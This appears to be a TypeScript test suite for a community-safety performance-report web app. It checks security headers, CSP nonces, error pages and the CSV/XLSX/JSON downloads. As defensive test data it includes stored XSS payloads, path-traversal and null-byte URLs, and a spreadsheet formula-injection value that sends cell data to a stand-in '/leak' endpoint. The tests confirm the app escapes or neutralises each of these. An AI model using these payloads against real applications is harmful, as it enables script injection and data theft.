import { onlyPartnership } from '../../test/support/partnership.ts'
import { after, before, describe, it } from 'node:test'
import assert from 'node:assert/strict'
import type { AddressInfo } from 'node:net'
import type { Server } from 'node:http'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { loadConfig } from '../config.ts'
import { createServices, type Services } from '../composition-root.ts'
import { openTestDatabase, testDialects } from '../../test/support/databases.ts'
import { createApp } from './app.ts'
import type { Logger } from './logger.ts'
import { TestBrowser } from '../accounts/web/test-client.ts'
import { demoUsers } from '../accounts/demo-users.ts'

interface Running {
  readonly services: Services
  readonly server: Server
  readonly base: string
  readonly logged: Record<string, unknown>[]
  /** A demo viewer, signed in: the report is for signed-in users only. */
  readonly viewer: TestBrowser
  /** A download as the viewer, with its body as bytes. */
  download(path: string): Promise<Response>
}

async function start(dialect: 'sqlite' | 'postgres', demo: boolean): Promise<Running> {
  const database = await openTestDatabase(dialect)
  // The viewer below signs in with the password alone (two-step sign-in is tested in src/accounts/two-step/).
  const config = loadConfig({ NODE_ENV: 'test', SAFERHUB_DEMO: demo ? 'true' : 'false', SAFERHUB_TWO_STEP: 'optional' })
  const services = await createServices(config, { database })
  const logged: Record<string, unknown>[] = []
  const logger: Logger = { log: (level, message, fields) => logged.push({ level, message, ...fields }) }
  const server = createApp(services, { logger }).listen(0, '127.0.0.1')
  await new Promise((resolve) => server.once('listening', resolve))
  const { port } = server.address() as AddressInfo
  const base = `http://127.0.0.1:${port}`
  // Without the demo there is no partnership, nor demo accounts: make one with them, to have a viewer.
  if (!demo) {
    assert.ok((await services.partnerships.add('test', { name: 'Safer Testshire Partnership' })).ok)
    const partnership = await onlyPartnership(services)
    await partnership.accounts.createDefaultAgencies()
    await partnership.accounts.createDemoUsers()
  }
  const viewer = new TestBrowser(base)
  const credentials = demoUsers.find((u) => u.role === 'viewer')
  assert.ok(credentials)
  assert.equal((await viewer.signIn(credentials.email, credentials.password)).status, 303, 'the viewer signs in')
  const download = (path: string) => fetch(`${base}${path}`, { headers: { cookie: viewer.cookieHeader() } })
  return { services, server, base, logged, viewer, download }
}

async function stop(running: Running): Promise<void> {
  running.server.closeAllConnections()
  await new Promise((resolve) => running.server.close(resolve))
  await running.services.close()
}

/** The nonce the CSP allows, from the header. */
function cspNonce(response: { headers: Headers }): string {
  const match = /script-src 'self' 'nonce-([A-Za-z0-9+/=]+)'/.exec(
    response.headers.get('content-security-policy') ?? '',
  )
  assert.ok(match, 'CSP has a script nonce')
  return match[1] as string
}

function assertSecurityHeaders(response: { headers: Headers }): void {
  const csp = response.headers.get('content-security-policy') ?? ''
  assert.match(csp, /default-src 'self'/)
  assert.match(csp, /object-src 'none'/)
  assert.match(csp, /base-uri 'none'/)
  assert.match(csp, /frame-ancestors 'none'/)
  assert.match(csp, /form-action 'self'/)
  assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/)
  assert.equal(response.headers.get('x-content-type-options'), 'nosniff')
  assert.equal(response.headers.get('referrer-policy'), 'same-origin')
  assert.equal(response.headers.get('cross-origin-opener-policy'), 'same-origin')
  assert.equal(response.headers.get('x-powered-by'), null)
}

/** The knife crime section of the page, whitespace squashed. */
function section(html: string, id: string): string {
  const start = html.indexOf(`<section class="app-kpi" id="${id}"`)
  assert.ok(start >= 0, `section ${id} is on the page`)
  return html.slice(start, html.indexOf('</section>', start)).replace(/\s+/g, ' ')
}

for (const dialect of testDialects()) {
  describe(`web application over the demo figures (${dialect})`, () => {
    let app: Running
    before(async () => {
      app = await start(dialect, true)
    })
    after(() => stop(app))

    it('answers /ping, /health and /info without saying anything secret', async () => {
      const ping = await fetch(`${app.base}/ping`)
      assert.equal(ping.status, 200)
      assert.equal(await ping.text(), 'pong')
      const health = await fetch(`${app.base}/health`)
      assert.equal(health.status, 200)
      assert.deepEqual(await health.json(), { status: 'UP', components: { database: { status: 'UP' } } })
      const info = await fetch(`${app.base}/info`)
      const body = (await info.json()) as Record<string, unknown>
      assert.deepEqual(Object.keys(body).sort(), ['name', 'version'])
      assert.equal(body.name, 'saferhub')
    })

    it('shows the 2017/18 report on / with knife crime as the figures give it: 221, +15.7%', async () => {
      const response = await app.viewer.get('/reports/performance/2017-18')
      assert.equal(response.status, 200)
      assert.match(response.headers.get('content-type') ?? '', /^text\/html; charset=utf-8/)
      const html = await response.text()
      assert.match(html, /<h1 class="govuk-heading-xl">Performance report 2017\/18<\/h1>/)
      assert.match(html, /<a href="\/" class="app-header__name">Safer Wolverhampton Partnership<\/a>/)
      assert.ok(html.includes('Contains public sector information licensed under the Open Government Licence v3.0'))
      const knife = section(html, 'kpi-knife-crime')
      // 49 + 49 + 56 + 67 = 221; 40 + 49 + 51 + 51 = 191; 30 / 191 = 15.71%.
      assert.match(knife, /2017\/18: <strong>221<\/strong>, \+30 \(\+15\.7%\) on the baseline of 191/)
      assert.match(knife, /Not achieved/)
      // The report's "16.5%" survives only inside the data owner's own words, and is flagged there.
      const owner = knife.slice(knife.indexOf('app-kpi__owner-commentary'))
      assert.ok(!knife.replace(owner, '').includes('16.5%'), 'no figure of ours says 16.5%')
      assert.match(owner, /The commentary says 16\.5%, but the figures give \+30 \(\+15\.7%\) on the baseline\./)
    })

    it('sends the security headers, with a fresh CSP nonce per request that the page’s script carries', async () => {
      const first = await app.viewer.get('/reports/performance/2017-18')
      const second = await app.viewer.get('/reports/performance/2017-18')
      assertSecurityHeaders(first)
      assert.equal(first.headers.get('cache-control'), 'no-store')
      // Nothing keeps a no-store page to revalidate it: no ETag is computed over its body (the API's versions stay).
      assert.equal(first.headers.get('etag'), null)
      const nonce = cspNonce(first)
      assert.notEqual(nonce, cspNonce(second))
      const html = await first.text()
      const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map((m) => m[0])
      assert.ok(scripts.length > 0)
      for (const script of scripts) assert.ok(script.includes(`nonce="${nonce}"`), script)
    })

    it('serves the page and its assets without GOV.UK branding', async () => {
      const html = await (await app.viewer.get('/reports/performance/2017-18')).text()
      assert.doesNotMatch(html, /govuk-header__logo|govuk-logo|govuk-footer__crown|GOV\.UK/)
      assert.doesNotMatch(html, /images\/favicon\.ico|govuk-icon/)
      const css = await fetch(`${app.base}/assets/saferhub.css`)
      assert.equal(css.status, 200)
      assert.match(css.headers.get('content-type') ?? '', /^text\/css/)
      const stylesheet = await css.text()
      assert.doesNotMatch(stylesheet, /GDS Transport|url\(/)
      assert.ok(stylesheet.includes('font-family:system-ui,-apple-system,"Segoe UI",Arial,sans-serif'))
      const js = await fetch(`${app.base}/assets/govuk-frontend.min.js`)
      assert.equal(js.status, 200)
      assert.match(js.headers.get('content-type') ?? '', /javascript/)
      assert.equal((await app.viewer.get('/assets/images/govuk-crest.svg')).status, 404)
    })

    it('answers unknown pages and badly formed years with a 404 page that has the same headers', async () => {
      for (const path of [
        '/no-such-page',
        '/reports/performance/2017-19',
        '/reports/performance/2017-18x',
        '/reports/performance/2017-18.exe',
        '/reports/performance/FY2017-18',
        '/reports/performance/2030-31',
        '/reports/performance/..%2f..%2fetc%2fpasswd',
        '/reports/performance/2017-18%00.csv',
      ]) {
        const response = await app.viewer.get(path)
        assert.equal(response.status, 404, path)
        assertSecurityHeaders(response)
        assert.match(await response.text(), /<h1 class="govuk-heading-l">Page not found<\/h1>/, path)
      }
    })

    it('shows the same report at /reports/performance/2017-18 and lists the years', async () => {
      const html = await (await app.viewer.get('/reports/performance/2017-18')).text()
      assert.match(section(html, 'kpi-knife-crime'), /\+30 \(\+15\.7%\)/)
      const years = await (await app.viewer.get('/reports/performance')).text()
      assert.match(years, /href="\/reports\/performance\/2017-18">Performance report 2017\/18<\/a>/)
    })

    it('downloads the values as CSV: an attachment, fixed type, nosniff, BOM, numbers as numbers', async () => {
      const response = await app.download('/reports/performance/2017-18.csv')
      assert.equal(response.status, 200)
      assert.equal(response.headers.get('content-type'), 'text/csv; charset=utf-8')
      assert.equal(
        response.headers.get('content-disposition'),
        `attachment; filename="safer-wolverhampton-partnership-performance-report-2017-18.csv"; filename*=UTF-8''safer-wolverhampton-partnership-performance-report-2017-18.csv`,
      )
      assert.equal(response.headers.get('x-content-type-options'), 'nosniff')
      assert.equal(response.headers.get('cache-control'), 'no-store')
      const bytes = Buffer.from(await response.arrayBuffer())
      assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf])
      const rows = parse(bytes, { bom: true, columns: true }) as Record<string, string>[]
      const knife = rows.filter((r) => r['KPI code'] === 'knife-crime')
      assert.deepEqual(
        knife.map((r) => [r.Period, r.Value]),
        [
          ['FY2016-17-Q1', '40'],
          ['FY2016-17-Q2', '49'],
          ['FY2016-17-Q3', '51'],
          ['FY2016-17-Q4', '51'],
          ['FY2017-18-Q1', '49'],
          ['FY2017-18-Q2', '49'],
          ['FY2017-18-Q3', '56'],
          ['FY2017-18-Q4', '67'],
        ],
      )
    })

    it('downloads the summary as CSV, XLSX and JSON with the same figures', async () => {
      const csv = await app.download('/reports/performance/2017-18-summary.csv')
      const rows = parse(Buffer.from(await csv.arrayBuffer()), { bom: true, columns: true }) as Record<string, string>[]
      const knifeCsv = rows.find((r) => r['KPI code'] === 'knife-crime')
      assert.equal(knifeCsv?.['Outturn 2017/18 value'], '221')
      assert.equal(knifeCsv?.['Change on baseline'], '30')
      assert.equal(knifeCsv?.['Change on baseline %'], '15.7')

      const xlsx = await app.download('/reports/performance/2017-18.xlsx')
      assert.equal(
        xlsx.headers.get('content-type'),
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      )
      assert.match(xlsx.headers.get('content-disposition') ?? '', /^attachment; filename=".*-2017-18\.xlsx"/)
      const workbook = new ExcelJS.Workbook()
      await workbook.xlsx.load(await xlsx.arrayBuffer())
      const summary = workbook.getWorksheet('Summary')
      assert.ok(summary)
      const header = (summary.getRow(1).values as unknown[]).map(String)
      let found = false
      summary.eachRow((row) => {
        if (row.getCell(header.indexOf('KPI code')).value !== 'knife-crime') return
        found = true
        assert.equal(row.getCell(header.indexOf('Outturn 2017/18 value')).value, 221)
        assert.equal(row.getCell(header.indexOf('Change on baseline %')).value, 15.7)
      })
      assert.ok(found)

      const json = await app.download('/reports/performance/2017-18.json')
      assert.equal(json.headers.get('content-type'), 'application/json; charset=utf-8')
      const report = (await json.json()) as {
        themes: {
          rows: { indicator: { id: string }; outturn: { value: number }; changeOnBaseline: { percent: number } }[]
        }[]
      }
      const knife = report.themes.flatMap((t) => t.rows).find((r) => r.indicator.id === 'knife-crime')
      assert.equal(knife?.outturn.value, 221)
      assert.equal(knife?.changeOnBaseline.percent, 15.7)
    })

    it('downloads the standalone HTML: one file, no script', async () => {
      const response = await app.download('/reports/performance/2017-18.html')
      assert.equal(response.headers.get('content-type'), 'text/html; charset=utf-8')
      assert.match(response.headers.get('content-disposition') ?? '', /^attachment; filename=".*-2017-18\.html"/)
      const html = await response.text()
      assert.doesNotMatch(html, /<script|<link /)
      assert.match(section(html, 'kpi-knife-crime'), /\+30 \(\+15\.7%\)/)
    })

    it('answers a malformed URL with a generic page and a correlation id, and logs the detail as one JSON object', async () => {
      const response = await app.download('/reports/performance/%E0%A4%A')
      assert.equal(response.status, 400)
      assertSecurityHeaders(response)
      const html = await response.text()
      const reference = /give this reference: <strong>([0-9a-f-]{36})<\/strong>/.exec(html)
      assert.ok(reference, 'the page gives a reference')
      assert.doesNotMatch(html, /URIError|at [^\s]+ \(|node_modules/)
      const entry = app.logged.find((e) => e.correlationId === reference[1])
      assert.ok(entry, 'the log has an entry with the same reference')
      assert.equal(entry.status, 400)
      assert.equal(typeof entry.stack, 'string')
    })
  })

  describe(`web application over hostile figures (${dialect})`, () => {
    let app: Running
    const script = '<script>alert(1)</script>'
    const formula = '=HYPERLINK("http://127.0.0.1:9999/leak?d="&A1,"x")'
    before(async () => {
      app = await start(dialect, false)
      const indicators = [
        'id,name,priority,theme,definition,data_owner,cadence,measure_type,preferred_direction,hidden_harm,unit,rate_per,stock_aggregation,share_label,target_kind,target_value,target_comparison,target_reference_year',
        `hostile,"${script}",Violence Prevention,"<b>Theme</b>","<img src=x onerror=alert(2)>",SWP Analyst,quarterly,count,reduce,no,offences,,,,,,,`,
      ].join('\n')
      const values = [
        'indicator,period,value,numerator,denominator,percent,text,status,reason,commentary',
        ...[10, 12, 11, 13, 9, 8, 12, 10].map(
          (v, i) =>
            `hostile,FY${i < 4 ? '2016-17' : '2017-18'}-Q${(i % 4) + 1},${v},,,,,,,${i === 7 ? `"${formula.replace(/"/g, '""')}"` : ''}`,
        ),
      ].join('\n')
      const result = await (
        await onlyPartnership(app.services)
      ).performance.importFiles(
        [
          { name: 'indicators.csv', content: Buffer.from(indicators) },
          { name: 'values.csv', content: Buffer.from(values) },
        ],
        'test',
      )
      assert.equal(result.outcome, 'applied', JSON.stringify(result))
    })
    after(() => stop(app))

    it('escapes stored script in the page', async () => {
      const html = await (await app.viewer.get('/')).text()
      assert.ok(html.includes('&lt;script&gt;alert(1)&lt;/script&gt;'))
      assert.ok(html.includes('&lt;b&gt;Theme&lt;/b&gt;'))
      assert.ok(html.includes('&lt;img src=x onerror=alert(2)&gt;'))
      assert.doesNotMatch(html, /<script>alert|<img src=x|<b>Theme/)
      const standalone = await (await app.viewer.get('/reports/performance/2017-18.html')).text()
      assert.doesNotMatch(standalone, /<script|<img src=x|<b>Theme/)
    })

    it('neutralises the formula in the CSV and XLSX downloads', async () => {
      const csv = Buffer.from(await (await app.download('/reports/performance/2017-18-summary.csv')).arrayBuffer())
      const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[]
      assert.equal(rows[0]?.['Data owner’s commentary'], `'${formula}`)
      assert.equal(rows[0]?.KPI, script, 'script is not a formula: kept as it is, as text')
      const xlsx = await app.download('/reports/performance/2017-18.xlsx')
      const workbook = new ExcelJS.Workbook()
      await workbook.xlsx.load(await xlsx.arrayBuffer())
      const texts: string[] = []
      workbook.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            assert.notEqual(cell.type, ExcelJS.ValueType.Formula)
            if (typeof cell.value === 'string') texts.push(cell.value)
          }),
        ),
      )
      assert.ok(texts.includes(`'${formula}`))
      assert.ok(!texts.includes(formula))
    })
  })

  describe(`web application before any figures are loaded (${dialect})`, () => {
    let app: Running
    before(async () => {
      app = await start(dialect, false)
    })
    after(() => stop(app))

    it('says how to load figures instead of showing an empty report, and has no downloads', async () => {
      const home = await app.viewer.get('/')
      assert.equal(home.status, 200)
      const html = await home.text()
      assert.match(html, /<h1 class="govuk-heading-l">No performance figures yet<\/h1>/)
      assert.match(html, /saferhub import/)
      assert.match(
        await (await app.viewer.get('/reports/performance')).text(),
        /No performance figures have been loaded yet/,
      )
      assert.equal((await app.viewer.get('/reports/performance/2017-18.csv')).status, 404)
    })
  })

  describe(`web application when the database fails (${dialect})`, () => {
    it('shows a generic error page and reports the database down', async () => {
      const app = await start(dialect, false)
      await app.services.database.db.destroy()
      try {
        const page = await app.viewer.get('/')
        assert.equal(page.status, 500)
        const html = await page.text()
        assert.match(html, /Sorry, there is a problem with the service/)
        assert.doesNotMatch(html, /at [^\s]+ \(|driver|destroyed|sqlite|postgres/i)
        const health = await fetch(`${app.base}/health`)
        assert.equal(health.status, 503)
        assert.deepEqual(await health.json(), { status: 'DOWN', components: { database: { status: 'DOWN' } } })
        assert.ok(app.logged.some((e) => e.status === 500 && typeof e.stack === 'string'))
      } finally {
        app.server.closeAllConnections()
        await new Promise((resolve) => app.server.close(resolve))
        await app.services.close().catch(() => undefined)
      }
    })
  })
}
